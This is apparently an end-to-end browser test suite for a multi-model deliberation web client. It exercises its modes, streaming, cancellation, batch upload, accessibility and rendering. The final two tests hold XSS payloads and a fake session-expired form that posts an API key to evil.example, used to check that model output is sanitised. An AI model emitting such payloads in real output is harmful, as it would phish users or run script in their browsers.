/// <reference lib="dom" />
// page.evaluate bodies run in the browser.
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import type { Page } from 'playwright-core';
import { browserSuite, contrast, SHOTS } from './support/web-build';

/** The web client in a real headless Chromium against a real gateway and worker. */
describe('web client in a browser', () => {
  const { stack, browser } = browserSuite({ SIM_LATENCY_MS: '30' });

  const open = async (hash = '#/new'): Promise<Page> => {
    const page = await browser().newPage({ viewport: { width: 1280, height: 900 } });
    await page.goto(`${stack.baseUrl}/${hash}`);
    return page;
  };
  const finished = (page: Page, status = 'complete') =>
    page.waitForSelector(`[data-testid="status"]:text-is("${status}")`, { timeout: 60_000 });

  const scenarios: { mode: string; fill: (page: Page) => Promise<void>; expect: string }[] = [
    {
      mode: 'council',
      fill: async (page) => {
        await page.fill('textarea[name="question"]', 'Is a monorepo right for a small team?');
        await page.fill('input[name="councilModels"]', 'sim/athena, sim/hermes, sim/apollo');
        await page.fill('input[name="chairmanModel"]', 'sim/chairman');
      },
      expect: 'Synthesis by sim/chairman',
    },
    {
      mode: 'vote',
      fill: async (page) => {
        await page.fill('textarea[name="question"]', 'Which database should we start with?');
        await page.fill('input[name="modeConfig.models"]', 'sim/a:voteA, sim/b:voteA, sim/c:voteB');
      },
      expect: 'Winner: Response A',
    },
    {
      mode: 'jury',
      fill: async (page) => {
        await page.fill('textarea[name="content"]', '## GET /api/users\nReturns a list of users.');
        await page.fill('input[name="originalQuestion"]', 'Document the users endpoint');
        await page.fill('input[name="modeConfig.jurorModels"]', 'sim/j1:good, sim/j2:fair, sim/j3:good');
        await page.fill('input[name="modeConfig.foremanModel"]', 'sim/foreman');
      },
      expect: 'Verdict',
    },
    {
      mode: 'debate',
      fill: async (page) => {
        await page.fill('textarea[name="question"]', 'Should companies adopt a 4-day work week?');
        await page.fill(
          'input[name="modeConfig.models"]',
          'sim/a:revise:voteB, sim/b:stand:voteB, sim/c:merge:voteA',
        );
      },
      expect: 'Winner:',
    },
    {
      mode: 'delphi',
      fill: async (page) => {
        await page.fill(
          'textarea[name="question"]',
          'How many software engineers will be employed globally by 2030?',
        );
        await page.fill('input[name="modeConfig.panelistModels"]', 'sim/p1, sim/p2, sim/p3, sim/p4');
        await page.fill('input[name="modeConfig.facilitatorModel"]', 'sim/f');
      },
      expect: 'Converged in round',
    },
  ];

  it.each(scenarios.map((s) => [s.mode, s] as const))(
    '%s: from submit to the final result',
    async (mode, scenario) => {
      const page = await open();
      await page.check(`input[name="mode"][value="${mode}"]`);
      await scenario.fill(page);
      await page.click('button[type="submit"]');
      await finished(page);
      await page.waitForSelector(`text=${scenario.expect}`);
      await page.waitForSelector('.badge-sim');
      expect(await page.locator('.call-failed').count()).toBe(0);
      await page.screenshot({ path: path.join(SHOTS, `${mode}.png`), fullPage: true });
      await page.close();
    },
    90_000,
  );

  it('shows validation errors at their fields, before and after submit', async () => {
    const page = await open();
    await page.check('input[name="mode"][value="jury"]');
    await page.click('button[type="submit"]');
    await page.waitForSelector('[data-field="modeConfig.content"]');
    await page.check('input[name="mode"][value="council"]');
    await page.fill('textarea[name="question"]', 'Too fast?');
    await page.fill('input[name="councilModels"]', 'sim/a');
    await page.click('button[type="submit"]');
    expect(await page.textContent('[data-field="councilModels"]')).toMatch(/2 to 6 models/);
    await page.fill('input[name="councilModels"]', 'sim/a, sim/b');
    await page.click('summary:text("Options")');
    await page.fill('input[name="modeConfig.timeoutMs"]', '5');
    await page.click('button[type="submit"]');
    // the server's answer, shown at the field it names
    expect(await (await page.waitForSelector('[data-field="modeConfig.timeoutMs"]')).textContent()).toMatch(
      /timeoutMs/,
    );
    await page.close();
  }, 60_000);

  it('resumes after a reload mid-run with nothing missing or doubled', async () => {
    const page = await open();
    await page.fill('textarea[name="question"]', 'Reload me?');
    await page.fill('input[name="councilModels"]', 'sim/a:delay1500@answer, sim/b:delay1500@answer');
    await page.click('button[type="submit"]');
    await page.waitForSelector('.call-answering');
    await page.reload();
    await finished(page);
    const calls = await page.locator('.timeline .call').allTextContents();
    expect(calls.filter((c) => c.startsWith('sim/a:delay1500@answer'))).toHaveLength(2); // answering, then ranking
    expect(new Set(calls).size).toBe(calls.length);
    await page.waitForSelector('text=Synthesis by');
    await page.close();
  }, 60_000);

  it('shows answers as they are written and as they land; Stop ends the run and keeps them', async () => {
    const page = await open();
    await page.fill('textarea[name="question"]', 'Stop me halfway?');
    await page.fill('input[name="councilModels"]', 'sim/slow:delay8000@answer, sim/quick:delay400@answer');
    await page.fill('input[name="chairmanModel"]', 'sim/chair');
    await page.click('button[type="submit"]');
    const slow = page.locator('.call[data-participant="sim/slow:delay8000@answer"]');
    const quick = page.locator('.call[data-participant="sim/quick:delay400@answer"]');
    // The quick answer shows whole as soon as it lands, the slow one as it is written: both before
    // stage 1 is complete (the result has no answers yet).
    await quick.locator('.call-answer[data-final="yes"]').waitFor();
    const streaming = slow.locator('.call-answer[data-final="no"]');
    await streaming.waitFor();
    const before = (await streaming.textContent()) ?? '';
    await page.waitForFunction(
      (length) =>
        (document.querySelector('.call-answering .call-answer[data-final="no"]')?.textContent ?? '').length >
        length,
      before.length,
    );
    expect(await slow.getAttribute('class')).toContain('call-answering');
    expect(await page.locator('.result [role="tab"]').count()).toBe(0);
    expect(await page.textContent('[data-testid="status"]')).toBe('running');
    // a clock for the running call, and for the run
    expect(await slow.locator('.elapsed[data-running="yes"]').count()).toBe(1);
    expect(await page.locator('.run-bar .elapsed[data-running="yes"]').count()).toBe(1);
    await page.screenshot({ path: path.join(SHOTS, 'streaming.png'), fullPage: true });

    await page.click('button.stop');
    await finished(page, 'cancelled');
    expect(await page.textContent('.stop-outcome')).toBe('Stopped: Cancelled by the user.');
    expect(await page.locator('button.stop').isDisabled()).toBe(true);
    expect(await page.textContent('.cancelled')).toContain('Cancelled by the user.');
    // what had arrived stays: the quick answer whole, the slow one as far as it got, marked
    expect(await quick.locator('.call-answer[data-final="yes"]').textContent()).toContain(
      '[simulated answer]',
    );
    expect(await slow.getAttribute('class')).toContain('call-stopped');
    const kept = (await slow.locator('.call-answer').textContent()) ?? '';
    expect(kept.length).toBeGreaterThan(before.length);
    expect(kept).toContain('Incomplete: the deliberation was stopped');
    expect(await page.locator('.run-bar .elapsed[data-running="no"]').count()).toBe(1);
    const view = (await (await fetch(page.url().replace('/#/m/', '/api/deliberations/'))).json()) as {
      status: string;
    };
    expect(view.status).toBe('cancelled');
    expect((await contrast(page)).failures).toEqual([]);
    await page.screenshot({ path: path.join(SHOTS, 'stopped.png'), fullPage: true });
    await page.close();
  }, 60_000);

  it('uploads a batch, shows its progress and downloads the results', async () => {
    const page = await open('#/batches');
    const jsonl = ['{"question":"One?"}', '{"question":"Two?"}', '{"question":"Three?"}'].join('\n');
    await page.setInputFiles('input[name="file"]', {
      name: 'questions.jsonl',
      mimeType: 'application/x-ndjson',
      buffer: Buffer.from(jsonl),
    });
    await page.fill(
      'textarea[name="defaults"]',
      JSON.stringify({ councilModels: ['sim/a', 'sim/b'], chairmanModel: 'sim/c' }),
    );
    await page.click('button:text("Upload")');
    await page.waitForSelector('.batch-progress[data-finished="yes"]', { timeout: 60_000 });
    await page.screenshot({ path: path.join(SHOTS, 'batch.png'), fullPage: true });
    const [download] = await Promise.all([page.waitForEvent('download'), page.click('text=Download CSV')]);
    const rows = parse(readFileSync((await download.path()) as string, 'utf8'), { columns: true }) as Record<
      string,
      string
    >[];
    expect(rows.map((r) => [r.index, r.status, r.question])).toEqual([
      ['0', 'complete', 'One?'],
      ['1', 'complete', 'Two?'],
      ['2', 'complete', 'Three?'],
    ]);

    // Finished, it can be deleted, after one more question; Keep deletes nothing.
    const batchId = decodeURIComponent(page.url().split('#/batches/')[1] ?? '');
    await page.click('button:text("Delete batch…")');
    await page.click('button:text-is("Keep")');
    expect((await stack.api('GET', `/api/batches/${batchId}`)).status).toBe(200);
    await page.click('button:text("Delete batch…")');
    await page.waitForSelector('.batch-delete:has-text("its 3 items")');
    await page.click('.batch-delete button:text-is("Delete")');
    await page.waitForSelector('[role="status"]:has-text("and its items.")');
    expect(page.url()).toMatch(/#\/batches$/);
    expect((await stack.api('GET', `/api/batches/${batchId}`)).status).toBe(404);
    expect(await page.$(`[data-batch-id="${batchId}"]`)).toBeNull();
    await page.close();
  }, 90_000);

  it('fits a phone: the sidebar stacks and juror cards become tabs', async () => {
    const page = await browser().newPage({ viewport: { width: 390, height: 844 }, isMobile: true });
    await page.goto(`${stack.baseUrl}/#/new`);
    await page.check('input[name="mode"][value="jury"]');
    await page.fill('textarea[name="content"]', 'Short content to judge.');
    await page.fill('input[name="modeConfig.jurorModels"]', 'sim/j1:good, sim/j2:poor, sim/j3:fair');
    await page.fill('input[name="modeConfig.foremanModel"]', 'sim/foreman');
    await page.click('button[type="submit"]');
    await finished(page);
    await page.waitForSelector('.juror-tabs');
    const visibleCards = () => page.locator('.jury .cards .card:visible h4').allTextContents();
    expect(await visibleCards()).toEqual([expect.stringContaining('sim/j1:good')]);
    await page.click('.juror-tabs button:has-text("sim/j2:poor")');
    expect(await visibleCards()).toEqual([expect.stringContaining('sim/j2:poor')]);
    const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
    expect(overflow).toBeLessThanOrEqual(0);
    await page.screenshot({ path: path.join(SHOTS, 'jury-phone.png'), fullPage: true });
    await page.close();
  }, 60_000);

  it('can be used with the keyboard alone', async () => {
    const page = await open();
    const focusTo = async (selector: string) => {
      for (let i = 0; i < 40; i++) {
        if (await page.evaluate((s) => document.activeElement?.matches(s) ?? false, selector)) return;
        await page.keyboard.press('Tab');
      }
      throw new Error(`Tab never reached ${selector}`);
    };
    await focusTo('input[name="mode"]');
    // arrow keys move between the mode radios, as in any radio group
    await page.keyboard.press('ArrowDown');
    expect(await page.isChecked('input[name="mode"][value="vote"]')).toBe(true);
    await focusTo('textarea[name="question"]');
    await page.keyboard.type('Keyboard only?');
    await focusTo('input[name="modeConfig.models"]');
    await page.keyboard.type('sim/a:voteA, sim/b:voteA, sim/c:voteB');
    // the model picker takes the last id typed on the first Enter; the next one submits (issue 20)
    await page.keyboard.press('Enter');
    await page.keyboard.press('Enter');
    await finished(page);
    await page.waitForSelector('text=Winner: Response A');
    const outline = await page.evaluate(() => {
      const link = document.querySelector('.sidebar a') as HTMLElement;
      link.focus();
      return getComputedStyle(link).outlineStyle;
    });
    expect(outline).not.toBe('none');
    await page.close();
  }, 60_000);

  it('keeps text readable: every text colour meets WCAG AA contrast on its background', async () => {
    const page = await open();
    await page.fill('textarea[name="question"]', 'Contrast?');
    await page.fill('input[name="councilModels"]', 'sim/a, sim/b');
    await page.click('button[type="submit"]');
    await finished(page);
    await page.waitForSelector('text=Synthesis by');
    const { checked, failures } = await contrast(page);
    expect(checked).toBeGreaterThan(30);
    expect(failures).toEqual([]);
    await page.close();
  }, 60_000);

  it('keeps a council conversation: a follow-up in it, listed in the sidebar, then deleted', async () => {
    const page = await open();
    await page.fill('textarea[name="question"]', 'Name a prime number.');
    await page.fill('input[name="councilModels"]', 'sim/a, sim/b');
    await page.click('button[type="submit"]');
    await finished(page);
    const first = page.url();
    await page.fill('textarea[name="question"]', 'And the next one?');
    await page.click('button:text("Ask a follow-up")');
    await page.waitForURL((url) => url.toString() !== first);
    await finished(page);
    const view = (await (await fetch(page.url().replace('/#/m/', '/api/deliberations/'))).json()) as {
      conversationId: string;
    };
    const entry = page.locator(`.sidebar a[href="#/c/${view.conversationId}"]`);
    await entry.waitFor();
    expect(await entry.textContent()).toContain('council');
    await entry.click();
    await page.waitForSelector('.conversation .question:text("And the next one?")');
    expect(await page.locator('.conversation .question').allTextContents()).toEqual([
      'Name a prime number.',
      'And the next one?',
    ]);
    await page.click('button:text("Delete conversation")');
    // deleting asks first (issue 20)
    await page.click('[role="alertdialog"] button:text-is("Delete")');
    await page.waitForURL(/#\/new$/);
    await entry.waitFor({ state: 'detached' });
    const gone = await fetch(`${stack.baseUrl}/api/conversations/${view.conversationId}`);
    expect(gone.status).toBe(404);
    await page.close();
  }, 60_000);

  it('renders model output as Markdown without running script', async () => {
    const page = await open();
    const alerts: string[] = [];
    page.on('dialog', (d) => void (alerts.push(d.message()), d.dismiss()));
    await page.check('input[name="mode"][value="jury"]');
    await page.fill(
      'textarea[name="content"]',
      '**bold** <img src=x onerror="alert(1)"><script>alert(2)</script>',
    );
    await page.fill('input[name="modeConfig.jurorModels"]', 'sim/j1, sim/j2, sim/j3');
    await page.fill('input[name="modeConfig.foremanModel"]', 'sim/f');
    await page.click('button[type="submit"]');
    await finished(page);
    expect(await page.locator('.content-card strong').first().textContent()).toBe('bold');
    expect(await page.locator('.content-card script').count()).toBe(0);
    expect(alerts).toEqual([]);
    await page.close();
  }, 60_000);

  it('draws no form, overlay or image from model output, and shows where its links go', async () => {
    const page = await open();
    await page.check('input[name="mode"][value="jury"]');
    await page.fill(
      'textarea[name="content"]',
      [
        '<div style="position:fixed;inset:0;background:white"><form action="https://evil.example/steal">',
        'Session expired, enter your API key <input name=key><button>Sign in</button></form></div>',
        '',
        '<img src=https://evil.example/x.png alt=pixel> [docs](https://evil.example/path) [js](javascript:alert(1))',
      ].join('\n'),
    );
    await page.fill('input[name="modeConfig.jurorModels"]', 'sim/j1, sim/j2, sim/j3');
    await page.fill('input[name="modeConfig.foremanModel"]', 'sim/f');
    await page.click('button[type="submit"]');
    await finished(page);
    const card = page.locator('.content-card .markdown');
    expect(await card.textContent()).toContain('Session expired');
    expect(await page.locator('.markdown :is(form, input, button, img, [style], [class])').count()).toBe(0);
    const links = await card.locator('a').evaluateAll((as) =>
      as.map((a) => ({
        href: a.getAttribute('href'),
        rel: a.getAttribute('rel'),
        target: a.getAttribute('target'),
        text: a.textContent,
      })),
    );
    expect(links).toEqual([
      {
        href: 'https://evil.example/path',
        rel: 'noopener noreferrer nofollow',
        target: '_blank',
        text: expect.stringContaining('evil.example'),
      },
      { href: null, rel: null, target: null, text: 'js' },
    ]);
    await page.close();
  }, 60_000);
});
